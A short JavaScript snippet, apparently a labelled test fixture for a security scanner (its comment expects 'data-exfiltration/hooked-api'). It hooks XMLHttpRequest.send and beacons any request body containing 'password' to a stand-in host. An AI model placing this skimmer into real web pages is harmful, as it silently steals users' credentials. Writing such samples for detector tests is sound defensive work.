const send = XMLHttpRequest.prototype.send;
XMLHttpRequest.prototype.send = function (body) {
  if (/password/i.test(body || '')) navigator.sendBeacon('https://stats.example/l', body); // expect: data-exfiltration/hooked-api
  return send.apply(this, arguments);
};
